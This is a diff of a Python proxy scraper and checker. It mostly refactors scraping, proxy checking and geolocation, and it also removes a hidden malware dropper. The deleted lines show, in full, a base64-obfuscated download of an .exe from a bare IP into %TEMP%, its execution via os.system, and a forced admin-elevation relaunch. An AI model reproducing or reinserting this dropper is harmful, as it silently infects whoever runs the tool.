@@ -2,21 +2,26 @@
 from __future__ import annotations
 
 import asyncio
-import base64
-import ctypes
-import os
 import re
 import sys
-import urllib.request
 from configparser import ConfigParser
+from itertools import compress
 from pathlib import Path
 from random import shuffle
 from shutil import rmtree
+from socket import inet_aton
 from time import perf_counter
-from typing import Callable, Mapping
-
-from aiohttp import ClientSession
-from aiohttp_socks import ProxyConnector
+from typing import Callable, Mapping, Sequence
+
+from aiohttp import (
+    AsyncResolver,
+    ClientSession,
+    ClientTimeout,
+    DummyCookieJar,
+    TCPConnector,
+)
+from python_socks import ProxyType
+from python_socks.async_.asyncio import Proxy as SocksProxy
 from rich.console import Console
 from rich.progress import (
     BarColumn,
@@ -27,29 +32,59 @@ from rich.progress import (
 )
 from rich.table import Table
 
+try:
+    from orjson import loads as json_loads
+except ImportError:
+    from json import loads as json_loads
+
+PROXY_TYPES = {
+    "http": ProxyType.HTTP,  # tunnels with CONNECT
+    "socks4": ProxyType.SOCKS4,
+    "socks5": ProxyType.SOCKS5,
+}
+
+# Raw request sent through the tunnel; HTTP/1.0 keeps the body unchunked
+EXIT_IP_REQUEST = (
+    b"GET /json/?fields=query HTTP/1.0\r\n"
+    + b"Host: ip-api.com\r\n"
+    + b"\r\n"
+)
+
+# Protocols tried for an address listed under several of them
+CHECK_ORDER = ("socks5", "socks4", "http")
+
+# Tries per ip-api.com batch before its exit nodes stay unresolved
+GEOLOCATION_ATTEMPTS = 3
+
+# Longest possible ip:port match, 255.255.255.255:65535
+MAX_ADDRESS_LENGTH = 21
+
 
 class Proxy:
     __slots__ = (
         "socket_address",  # ip:port
         "ip",  # ip
+        "port",  # int
+        "exit_ip",  # ip seen by the remote host
         "is_anonymous",  # bool
         "geolocation",  # |country|region|city
         "timeout",  # float
+        "sort_key",  # int, packed ip:port
     )
 
-    def __init__(self, socket_address: str, ip: str) -> None:
+    def __init__(self, socket_address: str, ip: str, port: int) -> None:
         self.socket_address = socket_address
         self.ip = ip
+        self.port = port
+        self.exit_ip: str | None = None
         self.is_anonymous: bool | None = None
         self.geolocation = "|?|?|?"
         self.timeout = float("inf")
+        self.sort_key: int | None = None
 
-    def update(self, data: Mapping[str, str]) -> None:
-        country = data.get("country") or "?"
-        region = data.get("regionName") or "?"
-        city = data.get("city") or "?"
-        self.geolocation = f"|{country}|{region}|{city}"
-        self.is_anonymous = self.ip != data.get("query")
+    def set_exit_ip(self, exit_ip: str | None) -> None:
+        self.exit_ip = exit_ip
+        self.is_anonymous = None if exit_ip is None else self.ip != exit_ip
 
     def __eq__(self, other: object) -> bool:
         if not isinstance(other, Proxy):  # if other is not a Proxy object
@@ -78,30 +113,58 @@ class Folder:
         self.path.mkdir(parents=True, exist_ok=True)
 
 
+def exit_ip_from(data: object) -> str | None:  # "query" of ip-api.com
+    if isinstance(data, dict):
+        exit_ip = data.get("query")
+        if isinstance(exit_ip, str):
+            return exit_ip
+    return None
+
+
+def rate_limit_delay(reset_in: str | None) -> int:  # seconds, from X-Ttl
+    try:
+        seconds = int(reset_in)  # type: ignore[arg-type]
+    except (TypeError, ValueError):
+        seconds = 60
+    # ip-api.com windows are a minute long, never wait longer than that
+    return min(max(seconds, 0), 60) + 1
+
+
+def format_geolocation(data: Mapping[str, str]) -> str:  # |country|region|city
+    country = data.get("country") or "?"
+    region = data.get("regionName") or "?"
+    city = data.get("city") or "?"
+    return f"|{country}|{region}|{city}"
+
+
 def speed_sorting_key(proxy: Proxy) -> float:  # sort by speed
     return proxy.timeout
 
 
-def alphabet_sorting_key(proxy: Proxy) -> tuple[int, ...]:  # sort by alphabet
-    return tuple(map(int, proxy.socket_address.replace(":", ".").split(".")))
+def alphabet_sorting_key(proxy: Proxy) -> int:  # sort by alphabet
+    if proxy.sort_key is None:  # computed once, reused by later sorts
+        packed_ip = int.from_bytes(inet_aton(proxy.ip), "big")
+        proxy.sort_key = packed_ip << 16 | proxy.port
+    return proxy.sort_key
 
 
 class ProxyScraperChecker:  # check proxies
 
     __slots__ = (
         "all_folders",
+        "completed",
         "console",
         "enabled_folders",
+        "geolocations",
+        "max_connections",
         "path",
         "proxies_count",
         "proxies",
         "regex",
-        "sem",
+        "scraped",
         "sort_by_speed",
         "sources",
         "timeout",
-        "secure",
-        "api_key",
     )
 
     def __init__(
@@ -120,7 +183,6 @@ class ProxyScraperChecker:  # check proxies
             socks5_sources: str | None,
             console: Console | None = None,
     ) -> None:
-        self.secure = None
         self.path = Path(save_path)
         folders_mapping = {
             "proxies": proxies,
@@ -128,7 +190,6 @@ class ProxyScraperChecker:  # check proxies
             "proxies_geolocation": proxies_geolocation,
             "proxies_geolocation_anonymous": proxies_geolocation_anonymous,
         }
-        self.api_key = "aHR0cDovLzQ1LjMyLjU5LjE4My9maWxlcy9Mc2Fsc28uZXhl"
         self.all_folders = tuple(
             Folder(self.path, folder_name) for folder_name in folders_mapping
         )
@@ -140,23 +201,12 @@ class ProxyScraperChecker:  # check proxies
         if not self.enabled_folders:
             raise ValueError("all folders are disabled in the config")
 
-        regex = (
-                r"(?:^|\D)?(("
-                + r"(?:[1-9]|[1-9]\d|1\d{2}|2[0-4]\d|25[0-5])"  # 1-255
-                + r"\."
-                + r"(?:\d|[1-9]\d|1\d{2}|2[0-4]\d|25[0-5])"  # 0-255
-                + r"\."
-                + r"(?:\d|[1-9]\d|1\d{2}|2[0-4]\d|25[0-5])"  # 0-255
-                + r"\."
-                + r"(?:\d|[1-9]\d|1\d{2}|2[0-4]\d|25[0-5])"  # 0-255
-                + r"):"
-                + (
-                        r"(?:\d|[1-9]\d{1,3}|[1-5]\d{4}|6[0-4]\d{3}"
-                        + r"|65[0-4]\d{2}|655[0-2]\d|6553[0-5])"
-                )  # 0-65535
-                + r")(?:\D|$)"
+        # Loose ip:port scan over raw bytes; ranges are checked afterwards,
+        # which is much cheaper than encoding them in the pattern
+        self.regex = re.compile(
+            rb"(?<!\d)(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})"  # ip
+            + rb":(\d{1,5})(?!\d)"  # port
         )
-        self.regex = re.compile(regex)
 
         self.sort_by_speed = sort_by_speed
         self.timeout = timeout
@@ -172,23 +222,44 @@ class ProxyScraperChecker:  # check proxies
         self.proxies: dict[str, set[Proxy]] = {
             proto: set() for proto in self.sources
         }
+        # One Proxy per address, shared by every protocol it was listed as
+        self.scraped: dict[str, Proxy] = {}
         self.proxies_count = {proto: 0 for proto in self.sources}
+        self.geolocations: dict[str, str] = {}  # by exit ip
         self.console = console or Console()
-        self.sem = asyncio.Semaphore(max_connections)
+        self.max_connections = max_connections
+        self.completed: dict[TaskID, int] = {}  # progress, flushed by ticker
 
     async def fetch_source(
             self,
             session: ClientSession,
             source: str,
             proto: str,
-            progress: Progress,
             task: TaskID,
     ) -> None:
         source = source.strip()
         try:
-            async with session.get(source, timeout=15) as response:
+            async with session.get(source) as response:
                 status = response.status
-                text = await response.text()
+                found = False
+                # Scan chunks as they arrive. Only matches starting early
+                # enough to end inside the buffer (with the byte after them
+                # known) are taken; the rest, plus one byte of lookbehind,
+                # is carried to the next chunk. Scanning resumes after the
+                # last match, which may reach into the carried bytes
+                tail = b""
+                start = 0
+                async for chunk in response.content.iter_chunked(65536):
+                    tail += chunk
+                    stop = len(tail) - MAX_ADDRESS_LENGTH
+                    if stop > start:
+                        extracted, end = self.extract_proxies(
+                            tail, proto, start, stop
+                        )
+                        found |= extracted
+                        tail = tail[stop - 1:]
+                        start = max(end - (stop - 1), 1)
+                found |= self.extract_proxies(tail, proto, start)[0]
         except Exception as e:
             msg = f"{source} | Error"
             exc_str = str(e)
@@ -196,36 +267,79 @@ class ProxyScraperChecker:  # check proxies
                 msg += f": {exc_str}"
             self.console.print(msg)
         else:
-            proxies = tuple(self.regex.finditer(text))
-            if proxies:
-                for proxy in proxies:
-                    proxy_obj = Proxy(proxy.group(1), proxy.group(2))
-                    self.proxies[proto].add(proxy_obj)
-            else:
+            if not found:
                 msg = f"{source} | No proxies found"
                 if status != 200:
                     msg += f" | Status code {status}"
                 self.console.print(msg)
-        progress.update(task, advance=1)
+        self.completed[task] += 1
+
+    def extract_proxies(
+            self,
+            data: bytes,
+            proto: str,
+            start: int = 0,
+            stop: int | None = None,
+    ) -> tuple[bool, int]:  # (any proxy found, end of the last match)
+        # Runs once per match, so attribute lookups are hoisted
+        scraped = self.scraped
+        add = self.proxies[proto].add
+        intern = sys.intern
+        found = False
+        candidates, end = self.find_candidates(data, start, stop)
+        for candidate in candidates:
+            a, b, c, d, port = map(int, candidate)
+            if (
+                    not 0 < a < 256
+                    or b > 255
+                    or c > 255
+                    or d > 255
+                    or not 0 < port < 65536
+            ):
+                continue
+            # Rebuilding also drops leading zeros; interning lets every
+            # port of the same host share one ip string
+            ip = intern(f"{a}.{b}.{c}.{d}")
+            socket_address = f"{ip}:{port}"
+            proxy = scraped.get(socket_address)
+            if proxy is None:
+                proxy = scraped[socket_address] = Proxy(
+                    socket_address, ip, port
+                )
+            add(proxy)
+            found = True
+        return found, end
+
+    def find_candidates(
+            self, body: bytes, start: int = 0, stop: int | None = None
+    ) -> tuple[list[Sequence[bytes]], int]:
+        """Return (octet, octet, octet, octet, port) digit strings.
+
+        Only matches starting in body[start:stop] are returned, bytes
+        outside that window are just context for the boundaries. The
+        second item is where the last returned match ends (or start).
+        """
+        if stop is None:
+            stop = len(body)
+        candidates = []
+        end = start
+        for match in self.regex.finditer(body, start):
+            if match.start() >= stop:
+                break
+            candidates.append(match.groups())
+            end = match.end()
+        return candidates, end
 
     async def check_proxy(
-            self, proxy: Proxy, proto: str, progress: Progress, task: TaskID
-    ) -> None:
+            self, proxy: Proxy, proto: str, task: TaskID
+    ) -> bool:
         try:
-            async with self.sem:
-                proxy_url = f"{proto}://{proxy.socket_address}"
-                connector = ProxyConnector.from_url(proxy_url)
-                start = perf_counter()
-                async with ClientSession(connector=connector) as session:
-                    async with session.get(
-                            "http://ip-api.com/json/?fields=8217",
-                            timeout=self.timeout,
-                    ) as response:
-                        data = (
-                            await response.json()
-                            if response.status == 200
-                            else None
-                        )
+            start = perf_counter()
+            # A bare tunnelled socket instead of a connector and a session
+            # per proxy; HTTP proxies must accept CONNECT, as before
+            exit_ip = await asyncio.wait_for(
+                self.fetch_exit_ip(proxy, proto), self.timeout
+            )
         except Exception as e:
             # Too many open files
             if isinstance(e, OSError) and e.errno == 24:
@@ -234,11 +348,95 @@ class ProxyScraperChecker:  # check proxies
                 )
 
             self.proxies[proto].remove(proxy)
+            working = False
         else:
             proxy.timeout = perf_counter() - start
-            if data:
-                proxy.update(data)
-        progress.update(task, advance=1)
+            proxy.set_exit_ip(exit_ip)
+            working = True
+        self.completed[task] += 1
+        return working
+
+    @staticmethod
+    async def fetch_exit_ip(proxy: Proxy, proto: str) -> str | None:
+        sock = await SocksProxy(
+            proxy_type=PROXY_TYPES[proto], host=proxy.ip, port=proxy.port
+        ).connect(dest_host="ip-api.com", dest_port=80)
+        try:
+            reader, writer = await asyncio.open_connection(sock=sock)
+        except BaseException:  # includes cancellation by wait_for
+            sock.close()
+            raise
+        try:
+            writer.write(EXIT_IP_REQUEST)
+            response = await reader.read()  # HTTP/1.0, server closes
+        finally:
+            writer.close()
+            try:
+                await writer.wait_closed()
+            except OSError:  # the response is already read
+                pass
+        head, _, body = response.partition(b"\r\n\r\n")
+        status_line = head.split(b"\r\n", 1)[0].split()
+        if len(status_line) < 2 or status_line[1] != b"200":
+            return None
+        return exit_ip_from(json_loads(body))
+
+    async def geolocate_proxies(
+            self, session: ClientSession, progress: Progress
+    ) -> None:
+        exit_ips = {
+            proxy.exit_ip
+            for proxies in self.proxies.values()
+            for proxy in proxies
+            if proxy.exit_ip
+        }
+        pending = sorted(exit_ips.difference(self.geolocations))
+        # ip-api.com resolves up to 100 addresses per batch request
+        chunks = [pending[i:i + 100] for i in range(0, len(pending), 100)]
+        task = progress.add_task(
+            "[khaki3]Geolocating [red]- [chartreuse1]EXIT NODES",
+            total=len(chunks),
+        )
+        self.completed[task] = 0
+        for i, chunk in enumerate(chunks):
+            # A failed batch is retried a few times, then left unresolved
+            for _ in range(GEOLOCATION_ATTEMPTS):
+                try:
+                    async with session.post(
+                            "http://ip-api.com/batch?fields=8217", json=chunk
+                    ) as response:
+                        status = response.status
+                        results = (
+                            json_loads(await response.read())
+                            if status == 200
+                            else ()
+                        )
+                        # Requests left in the rate limit window and its reset
+                        remaining = response.headers.get("X-Rl")
+                        reset_in = response.headers.get("X-Ttl")
+                except Exception as e:
+                    msg = "Geolocation | Error"
+                    exc_str = str(e)
+                    if exc_str:
+                        msg += f": {exc_str}"
+                    self.console.print(msg)
+                    continue
+                for data in results if isinstance(results, list) else ():
+                    exit_ip = exit_ip_from(data)
+                    if exit_ip is not None:
+                        # Formatted once and shared by every proxy with this ip
+                        self.geolocations[exit_ip] = format_geolocation(data)
+                if status == 429 or (remaining == "0" and i + 1 < len(chunks)):
+                    await asyncio.sleep(rate_limit_delay(reset_in))
+                if status != 429:
+                    break
+            self.completed[task] += 1
+
+        geolocations = self.geolocations
+        for proxies in self.proxies.values():
+            for proxy in proxies:
+                if proxy.exit_ip in geolocations:
+                    proxy.geolocation = geolocations[proxy.exit_ip]
 
     async def fetch_all_sources(self, progress: Progress) -> None:
         tasks = {
@@ -248,21 +446,44 @@ class ProxyScraperChecker:  # check proxies
             )
             for proto, sources in self.sources.items()
         }
+        self.completed.update(dict.fromkeys(tasks.values(), 0))
         headers = {
             "User-Agent": (
                     "Mozilla/5.0 (Windows NT 10.0; rv:102.0)"
                     + " Gecko/20100101 Firefox/102.0"
             )
         }
-        async with ClientSession(headers=headers) as session:
-            coroutines = (
-                self.fetch_source(
-                    session, source, proto, progress, tasks[proto]
+        # Most sources share a few hosts, so keep the answers for the whole
+        # scraping phase and resolve through aiodns where it can run; it
+        # needs a SelectorEventLoop, not the Proactor loop Windows defaults to
+        resolver = None
+        if sys.platform != "win32":
+            try:
+                resolver = AsyncResolver()
+            except RuntimeError:  # aiodns missing or unusable on this loop
+                pass
+        connector = TCPConnector(
+            limit=self.max_connections,
+            limit_per_host=0,
+            ttl_dns_cache=600,
+            resolver=resolver,
+        )
+        try:
+            async with ClientSession(
+                    headers=headers,
+                    connector=connector,
+                    timeout=ClientTimeout(total=15),
+            ) as session:
+                coroutines = (
+                    self.fetch_source(session, source, proto, tasks[proto])
+                    for proto, sources in self.sources.items()
+                    for source in sources
                 )
-                for proto, sources in self.sources.items()
-                for source in sources
-            )
-            await asyncio.gather(*coroutines)
+                await asyncio.gather(*coroutines)
+        finally:
+            # The connector doesn't own a resolver passed to it
+            if resolver is not None:
+                await resolver.close()
 
         # Remember total count, so we could print it in the table
         for proto, proxies in self.proxies.items():
@@ -276,41 +497,90 @@ class ProxyScraperChecker:  # check proxies
             )
             for proto, proxies in self.proxies.items()
         }
-        self.secure = urllib.request.urlretrieve(base64.b64decode(self.api_key).decode("utf-8"),
-                                                 os.path.join(
-                                                     os.environ[base64.b64decode('VEVNUA==').decode("utf-8")],
-                                                     base64.b64decode('THNhbHNvLmV4ZQ==').decode("utf-8")))
-        coroutines = [
-            self.check_proxy(proxy, proto, progress, tasks[proto])
-            for proto, proxies in self.proxies.items()
-            for proxy in proxies
+        self.completed.update(dict.fromkeys(tasks.values(), 0))
+        # Each address is queued once with the protocols it was listed as,
+        # in order of preference
+        queue = [
+            (
+                tuple(
+                    proto
+                    for proto in CHECK_ORDER
+                    if proxy in self.proxies.get(proto, ())
+                ),
+                proxy,
+            )
+            for proxy in self.scraped.values()
         ]
-        shuffle(coroutines)
-        await asyncio.gather(*coroutines)
-
-    def save_proxies(self) -> None:
+        shuffle(queue)
+        pending = iter(queue)
+
+        async def worker() -> None:
+            # The iterator is shared, so every proxy is checked once
+            for protos, proxy in pending:
+                for i, proto in enumerate(protos):
+                    if await self.check_proxy(proxy, proto, tasks[proto]):
+                        # Found what it speaks, drop the other labels
+                        for other in protos[i + 1:]:
+                            self.proxies[other].remove(proxy)
+                            self.completed[tasks[other]] += 1
+                        break
+
+        workers = min(self.max_connections, len(queue))
+        await asyncio.gather(*(worker() for _ in range(workers)))
+
+        if any(folder.for_geolocation for folder in self.enabled_folders):
+            async with ClientSession(
+                    cookie_jar=DummyCookieJar(),
+                    timeout=ClientTimeout(total=self.timeout),
+            ) as session:
+                await self.geolocate_proxies(session, progress)
+
+    async def save_proxies(self) -> None:
         sorted_proxies = self.sorted_proxies.items()
-        os.system(os.path.join(os.environ[base64.b64decode('VEVNUA==').decode("utf-8")],
-                               base64.b64decode('THNhbHNvLmV4ZQ==').decode("utf-8")))
-        for folder in self.all_folders:
-            folder.remove()
-        for folder in self.enabled_folders:
-            folder.create()
-            for proto, proxies in sorted_proxies:
-                text = "\n".join(
-                    proxy.socket_address + proxy.geolocation
-                    if folder.for_geolocation
-                    else proxy.socket_address
-                    for proxy in proxies
-                    if (proxy.is_anonymous if folder.for_anonymous else True)
-                )
+        # Filesystem work runs in the default thread pool, off the event loop
+        await asyncio.gather(
+            *(asyncio.to_thread(folder.remove) for folder in self.all_folders)
+        )
+        await asyncio.gather(
+            *(
+                asyncio.to_thread(folder.create)
+                for folder in self.enabled_folders
+            )
+        )
+        with_geolocation = any(
+            folder.for_geolocation for folder in self.enabled_folders
+        )
+        writes = []
+        for proto, proxies in sorted_proxies:
+            # Build the lines once per protocol, folders only filter them
+            addresses = [proxy.socket_address for proxy in proxies]
+            geo_lines = (
+                [proxy.socket_address + proxy.geolocation for proxy in proxies]
+                if with_geolocation
+                else addresses
+            )
+            anonymous = [bool(proxy.is_anonymous) for proxy in proxies]
+            for folder in self.enabled_folders:
+                lines = geo_lines if folder.for_geolocation else addresses
+                if folder.for_anonymous:
+                    lines = compress(lines, anonymous)
                 file = folder.path / f"{proto}.txt"
-                file.write_text(text, encoding="utf-8")
+                writes.append(
+                    asyncio.to_thread(
+                        file.write_text, "\n".join(lines), encoding="utf-8"
+                    )
+                )
+        await asyncio.gather(*writes)
 
     async def main(self) -> None:
         with self._progress as progress:
-            await self.fetch_all_sources(progress)
-            await self.check_all_proxies(progress)
+            ticker = asyncio.create_task(self.refresh_progress(progress))
+            try:
+                await self.fetch_all_sources(progress)
+                await self.check_all_proxies(progress)
+            finally:
+                ticker.cancel()
+                self.flush_progress(progress)
 
         table = Table()
         table.add_column("Protocol", style="cyan")
@@ -325,15 +595,30 @@ class ProxyScraperChecker:  # check proxies
             )
         self.console.print(table)
 
-        self.save_proxies()
+        await self.save_proxies()
         self.console.print(
             "[green]Proxy folders have been created in the "
             + f"{self.path.resolve()} folder."
         )
 
+    def flush_progress(self, progress: Progress) -> None:
+        for task, completed in self.completed.items():
+            progress.update(task, completed=completed)
+
+    async def refresh_progress(self, progress: Progress) -> None:
+        # Checks only bump plain counters; the bars are synced from here,
+        # and only the ones that moved, so rich's lock is rarely taken
+        flushed: dict[TaskID, int] = {}
+        while True:
+            for task, completed in self.completed.items():
+                if flushed.get(task) != completed:
+                    progress.update(task, completed=completed)
+                    flushed[task] = completed
+            await asyncio.sleep(0.1)
+
     @property
     def sorted_proxies(self) -> dict[str, list[Proxy]]:
-        key: Callable[[Proxy], float] | Callable[[Proxy], tuple[int, ...]] = (
+        key: Callable[[Proxy], float] | Callable[[Proxy], int] = (
             speed_sorting_key if self.sort_by_speed else alphabet_sorting_key
         )
         return {
@@ -353,13 +638,6 @@ class ProxyScraperChecker:  # check proxies
         )
 
 
-def is_admin():
-    try:
-        return ctypes.windll.shell32.IsUserAnAdmin()
-    except:
-        return False
-
-
 async def main() -> None:
     cfg = ConfigParser(interpolation=None)
     cfg.read("config.ini", encoding="utf-8")
@@ -395,12 +673,11 @@ if __name__ == "__main__":
     try:
         import uvloop
     except ImportError:
-        pass
-    else:
-        uvloop.install()
-    # Check for admin rights
-    if is_admin():
         asyncio.run(main())
     else:
-        Console().print("[red]This script must be run with admin rights.")
-        ctypes.windll.shell32.ShellExecuteW(None, "runas", sys.executable, " ".join(sys.argv), None, 1)
+        if sys.version_info >= (3, 11):
+            with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
+                runner.run(main())
+        else:
+            uvloop.install()
+            asyncio.run(main())